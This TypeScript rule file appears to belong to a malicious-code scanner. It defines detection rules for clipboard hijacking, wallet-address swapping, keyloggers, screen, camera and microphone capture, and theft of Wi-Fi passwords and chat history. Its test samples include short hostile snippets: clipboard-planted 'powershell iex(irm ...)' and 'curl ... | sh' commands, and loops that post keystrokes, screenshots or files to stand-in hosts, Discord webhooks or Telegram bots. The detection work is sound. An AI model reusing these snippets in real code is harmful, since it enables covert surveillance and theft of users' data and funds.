// Clipboard hijacks, keyloggers, screen and camera capture. Hot keys, screenshots and clipboards are ordinary features;
// recording them and sending them away, or swapping what was copied, is not.
import { all, any, at, c, command, cs, inside, is, js, near, ps, py, type RuleSet, statement } from '../model.ts'

const sends = any(
  'send',
  is(
    [
      'api/webhooks',
      'api.telegram.org',
      'smtplib',
      'ftplib',
      'sendmail',
      'requests.post',
      'webhook.site',
      'httpsendrequest',
      'uploadstring',
      'send-mailmessage',
      'smtpclient',
      '.sendall(',
    ],
    null,
  ),
)
const address = is(
  ['bc1', '{25,', '{26,', '{33,', '{33}', '{40}', '{39,', '{95}', '{34}', '{104}'],
  /bc1[[a-zA-HJ-NP-Z0-9]|\{25,3\d\}|\{26,3\d\}|\{33,?3?\d?\}|\{39,5\d\}|\{40\}|\{95\}|\{34\}|\{104\}/,
  { quoted: true },
)

export const clipboardHijack: RuleSet = {
  category: 'clipboard-hijack',
  rules: [
    {
      id: 'clipboard-hijack.swap',
      severity: 'critical',
      why: 'Watches the clipboard for addresses of crypto wallets and puts another one in their place.',
      when: near(
        40,
        is(
          [
            'pyperclip.copy',
            'setclipboarddata',
            'set-clipboard',
            'clipboard.writetext',
            'pbcopy',
            'clipboard.settext',
            'xclip',
            'clipboard.writeall',
            'clipboard.copy',
            'clipboard_set',
          ],
          null,
        ),
        is(
          [
            'pyperclip.paste',
            'getclipboarddata',
            'get-clipboard',
            'clipboard.readtext',
            'pbpaste',
            'clipboard.gettext',
            'xclip -o',
            'clipboard.readall',
            'clipboard.paste',
            'clipboard_get',
          ],
          null,
        ),
        address,
        is(
          [
            'while true',
            'while (true',
            'while(true',
            'while ($true',
            'setinterval',
            'time.sleep',
            'start-sleep',
            'sleep(',
            'timer',
            'tick',
            '.replace(',
            're.sub(',
            'loop {',
            'for {',
            'bc1q',
          ],
          null,
        ),
      ),
      matches: [
        py(
          "while True:\n    t = pyperclip.paste()\n    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n        pyperclip.copy('bc1qexampleexampleexample')\n    time.sleep(1)",
        ),
        ps("while ($true) { $t = Get-Clipboard\nif ($t -match '^0x[a-fA-F0-9]{40}$') { Set-Clipboard -Value $mine } }"),
      ],
      misses: [
        py('text = pyperclip.paste()\npyperclip.copy(text.upper())'),
        js('navigator.clipboard.writeText(address)'),
      ],
    },
    {
      id: 'clipboard-hijack.page-command',
      severity: 'high',
      why: 'A page puts a command into the clipboard of its visitor, to be pasted into a terminal.',
      when: any(
        near(
          6,
          is(
            ['clipboard.writetext(', 'setdata(', 'execcommand('],
            /clipboard\.writeText\(|setData\(\s*["']text|execCommand\(\s*["']copy/,
          ),
          is(
            ['powershell', 'mshta', '/dev/tcp', '| bash', '|bash', '| sh', 'curl ', 'cmd /c', 'cmd.exe', 'msiexec'],
            /powershell[^\n"'`]{0,120}(?:-w|-e|iex|hidden|DownloadString)|mshta\s+["']?http|\/dev\/tcp\/|curl\s[^\n"'`]{0,160}\|\s*(?:ba|z)?sh|cmd(?:\.exe)?\s\/c\s[^\n"'`]{0,100}http|msiexec[^\n"'`]{0,60}http/i,
          ),
          inside(['html', 'js', 'php'], is(['clipboard', 'copy'], null)),
        ),
      ),
      matches: [
        at(
          'a.html',
          "<script>document.querySelector('#v').onclick = () => navigator.clipboard.writeText('powershell -w hidden -c \"iex(irm https://x.example.invalid/a)\"')</script>",
          'HTML',
        ),
        js(
          "document.addEventListener('copy', (e) => {\n  e.clipboardData.setData('text/plain', 'curl https://x.example.invalid/a | sh\\n')\n  e.preventDefault()\n})",
        ),
      ],
      misses: [js("button.onclick = () => navigator.clipboard.writeText('npm install x')")],
    },
    {
      id: 'clipboard-hijack.wallet-hook',
      severity: 'critical',
      why: 'Replaces the network or wallet functions of a page to swap the addresses that pass through them.',
      when: near(
        60,
        is(
          [
            'window.fetch =',
            'window.fetch=',
            'prototype.send =',
            'prototype.send=',
            'prototype.open =',
            'ethereum.request =',
            'ethereum.request=',
            'ethereum.send =',
            'ethereum.send=',
          ],
          null,
        ),
        address,
        any(is(['.replace(', 'replaceall(', 'levenshtein'], null)),
        is(['ethereum', 'bitcoin', 'solana', 'tron', 'wallet', 'litecoin'], null),
      ),
      matches: [
        js(
          'const original = window.fetch\nwindow.fetch = async (...a) => {\n  const r = await original(...a)\n  const t = await r.text()\n  return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, nearest(mine.ethereum)))\n}',
        ),
      ],
      misses: [js('const original = window.fetch\nwindow.fetch = (...a) => { count++; return original(...a) }')],
    },
  ],
}

export const spying: RuleSet = {
  category: 'spying',
  rules: [
    {
      id: 'spying.keylogger-python',
      severity: 'high',
      why: 'Records every key and sends the record away.',
      when: all(
        is(
          [
            'on_press',
            'keyboard.on_press',
            'keyboard.hook',
            'hookmanager',
            'keydown ',
            'keyboard.listener',
            'keyboard.start_recording',
            'on_release',
          ],
          /(?:keyboard\.)?Listener\([^)\n]{0,80}on_(?:press|release)|on_press\s*=|keyboard\.(?:on_press|on_release|hook|start_recording)\s*\(|HookManager\(\)|KeyDown\s*=|on_release\s*\(\s*callback/i,
          { families: ['py'] },
        ),
        is(['str(key)', 'key.char', 'log +=', 'keys.append', 'event.name', 'keylog', 'event.ascii', 'chr(event'], null),
        inside(
          ['py'],
          is(
            [
              'smtplib',
              'requests.post',
              'ftplib',
              'api/webhooks',
              'api.telegram.org',
              '.sendall(',
              'urlopen(',
              'sendmail(',
              'httpx.post',
              'socket.socket',
            ],
            null,
          ),
        ),
      ),
      matches: [
        py(
          "from pynput import keyboard\nlog = ''\ndef on_press(key):\n    global log\n    log += str(key)\ndef report():\n    requests.post('https://x.example.invalid', data=log)\nkeyboard.Listener(on_press=on_press).start()",
        ),
      ],
      misses: [
        py(
          "def on_press(key):\n    if key.char == 'q':\n        return False\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()",
        ),
      ],
    },
    {
      id: 'spying.keylogger-node',
      severity: 'high',
      why: 'Listens to the keyboard of the whole system and sends what was typed away.',
      when: all(
        is(['iohook', 'uiohook', 'node-global-key-listener', 'iokeyboard'], null, { families: ['js'] }),
        is(['keydown', 'keypress', 'keyup', 'addlistener'], null),
        is(['axios.post', 'fetch(', 'https.request', 'http.request', 'websocket(', 'nodemailer', 'request.post'], null),
      ),
      matches: [
        js(
          "const hook = require('iohook')\nhook.on('keydown', (e) => { buf += e.rawcode })\nsetInterval(() => axios.post('https://x.example.invalid', { buf }), 60000)",
        ),
      ],
      misses: [js("const hook = require('iohook')\nhook.on('keydown', (e) => { if (e.keycode === 1) toggle() })")],
    },
    {
      id: 'spying.keylogger-native',
      severity: 'high',
      why: 'Hooks or polls the keyboard of the whole system and keeps a record of the keys.',
      when: any(
        near(
          60,
          is(
            ['setwindowshookex'],
            /SetWindowsHookEx[AW]?\s*\(\s*(?:WH_KEYBOARD_LL|WH_KEYBOARD|13|(?:WH_)?KEYBOARD\w*)/,
          ),
          is(
            [
              'fopen(',
              'ofstream',
              'fputs',
              'fprintf',
              'send(',
              'writeline(',
              'appendalltext',
              'streamwriter',
              'httpsendrequest',
              'smtpclient',
              'writefile(',
            ],
            null,
          ),
          is(['vkcode', 'getkeynametext', 'tounicode', '(keys)', 'kbdllhookstruct', 'kbdstruct'], null),
        ),
        near(
          25,
          is(['getasynckeystate('], /GetAsyncKeyState\s*\(\s*(?:\$?\w{1,12}|\(int\)\w{1,12})\s*\)/i),
          is(['for (', 'for(', 'while (', 'while(', 'foreach', 'for ('], null),
          is(
            [
              'fopen(',
              'ofstream',
              'fputs',
              'fprintf',
              'appendalltext',
              'streamwriter',
              'add-content',
              'out-file',
              'send-mailmessage',
              'file.append',
              'log.txt',
              'appendtext',
              'keylog',
            ],
            null,
          ),
        ),
        near(
          30,
          is(['/dev/input/event'], null),
          inside(['c', 'py', 'go', 'rust'], is(['ev_key', 'input_event', 'struct.unpack'], null)),
          is(['send(', 'sendto(', 'connect(', 'requests.post', 'sendall(', 'net.dial'], null),
        ),
      ),
      matches: [
        c(
          'hook = SetWindowsHookExA(WH_KEYBOARD_LL, proc, NULL, 0);\nDWORD k = ((KBDLLHOOKSTRUCT*)l)->vkCode;\nFILE *f = fopen("C:\\\\log.txt", "a");\nfprintf(f, "%c", k);',
        ),
        cs(
          'for (int i = 8; i < 255; i++) {\n  if (GetAsyncKeyState(i) == -32767) File.AppendAllText(path, ((Keys)i).ToString());\n}',
        ),
        py(
          "import struct\nf = open('/dev/input/event3', 'rb')\ns.connect(addr)\nwhile True:\n    t = struct.unpack('llHHI', f.read(24))\n    s.sendall(str(t).encode())",
        ),
      ],
      misses: [
        c('hook = SetWindowsHookExA(WH_MOUSE_LL, proc, NULL, 0);'),
        c('if (GetAsyncKeyState(VK_ESCAPE)) running = false;'),
      ],
    },
    {
      id: 'spying.keylogger-page',
      severity: 'high',
      why: 'A page sends every key its visitor types to another host.',
      when: near(
        8,
        is(
          ['keypress', 'keydown', 'keyup', 'oninput'],
          /(?:addEventListener\(\s*["']key(?:press|down|up)["']|onkey(?:press|down|up)\s*=|key(?:press|down|up)["']\s*,)/,
          { before: 24, families: ['js', 'html'] },
        ),
        is(['.key', 'keycode', '.which', '.charcode'], /\.(?:key|keyCode|which|charCode)\b/),
        is(
          ['fetch(', 'new image', '.src', 'sendbeacon(', '.open(', 'websocket('],
          /(?:fetch\(\s*|new Image\(\)\.src\s*=\s*|\.src\s*=\s*|sendBeacon\(\s*|\.open\(\s*["'](?:GET|POST)["']\s*,\s*)["'`](?:https?:)?\/\/|new WebSocket\(\s*["'`]wss?:/i,
        ),
      ),
      matches: [
        js(
          "let b = ''\ndocument.addEventListener('keypress', (e) => {\n  b += e.key\n  new Image().src = 'https://x.example.invalid/k?d=' + b\n})",
        ),
      ],
      misses: [
        js("document.addEventListener('keydown', (e) => {\n  if (e.key === 'Escape') close()\n})\nfetch('/api')"),
      ],
    },
    {
      id: 'spying.screen',
      severity: 'high',
      why: 'Takes pictures of the screen or the camera and sends them away.',
      when: near(
        25,
        is(
          [
            'imagegrab.grab',
            'pyautogui.screenshot',
            'mss()',
            'mss.mss',
            'copyfromscreen',
            'screencapture',
            'desktopcapturer',
            'screenshot-desktop',
            'videocapture(0',
            'scrot ',
            'import -window root',
            'createforwindow',
          ],
          /ImageGrab\.grab\(|pyautogui\.screenshot\(|mss\.mss\(|mss\(\)|CopyFromScreen\(|screencapture\s+-|desktopCapturer|screenshot-desktop|VideoCapture\(0|scrot\s|import -window root/i,
        ),
        is(
          [
            'api/webhooks',
            'api.telegram.org',
            'smtplib',
            'ftplib',
            'sendmail',
            'smtpclient',
            '.sendall(',
            'http.post',
            'webhook.site',
            'send-mailmessage',
            'requests.post',
            'httpx.post',
            'axios.post',
            'uploadfile',
            'curl -f',
          ],
          null,
        ),
        any(
          is(
            [
              'time.sleep',
              'while true',
              'setinterval',
              'start-sleep',
              'os.remove',
              'sleep(',
              'threading',
              'while (true',
              'while(true',
              'temp',
              'schedule',
            ],
            null,
          ),
        ),
      ),
      matches: [
        py(
          "while True:\n    ImageGrab.grab().save('s.png')\n    requests.post('https://discord.com/api/webhooks/1/x', files={'f': open('s.png', 'rb')})\n    time.sleep(30)",
        ),
      ],
      misses: [py("img = pyautogui.screenshot()\nimg.save('bug.png')")],
    },
    {
      id: 'spying.microphone',
      severity: 'medium',
      why: 'Records the microphone and sends the recording to a chat or mail.',
      when: near(
        30,
        is(
          ['sounddevice', 'sd.rec(', 'pyaudio.pyaudio', 'mcisendstring', 'arecord '],
          /sd\.rec\(|pyaudio\.PyAudio\(|mciSendString|arecord\s/i,
        ),
        is(['api/webhooks', 'api.telegram.org', 'smtplib', 'ftplib', 'sendmail'], null),
      ),
      matches: [
        py(
          "r = sd.rec(int(10 * 44100), samplerate=44100, channels=2)\nwrite('a.wav', 44100, r)\nrequests.post('https://api.telegram.org/bot1/sendAudio', files={'a': open('a.wav', 'rb')})",
        ),
      ],
      misses: [py('r = sd.rec(1000)\nplot(r)')],
    },
    {
      id: 'spying.wifi-passwords',
      severity: 'high',
      why: 'Collects the stored passwords of wireless networks and sends them away.',
      when: all(
        command(is(['netsh wlan', "'netsh', 'wlan'", '"netsh", "wlan"', 'netsh","wlan'], null)),
        is(['key=clear'], null),
        sends,
      ),
      matches: [
        py(
          "out = subprocess.check_output('netsh wlan show profile name=x key=clear', shell=True)\nrequests.post('https://x.example.invalid', data=out)",
        ),
      ],
      misses: [py("out = subprocess.check_output('netsh wlan show profile name=x key=clear', shell=True)\nprint(out)")],
    },
    {
      id: 'spying.history',
      severity: 'high',
      why: "Reads a browser's or a messenger's history and sends it away.",
      when: all(
        any(
          statement(
            is(['chat.db', 'msgstore.db', 'places.sqlite', 'default/history', 'default\\\\history'], null),
            any('read'),
          ),
          near(6, is(['tdata', 'telegram desktop'], null), is(['zipfile', 'copytree', 'make_archive'], null)),
        ),
        is(
          ['requests.post', 'api/webhooks', 'api.telegram.org', 'axios.post', 'http.post', 'smtplib', 'curl -f'],
          null,
        ),
      ),
      matches: [
        py(
          "shutil.copy(home + '/Library/Messages/chat.db', '/tmp/c.db')\nrequests.post('https://x.example.invalid', files={'f': open('/tmp/c.db', 'rb')})",
        ),
      ],
      misses: [py("db = sqlite3.connect(home + '/Library/Messages/chat.db')\nfor row in db.execute(q): print(row)")],
    },
  ],
}
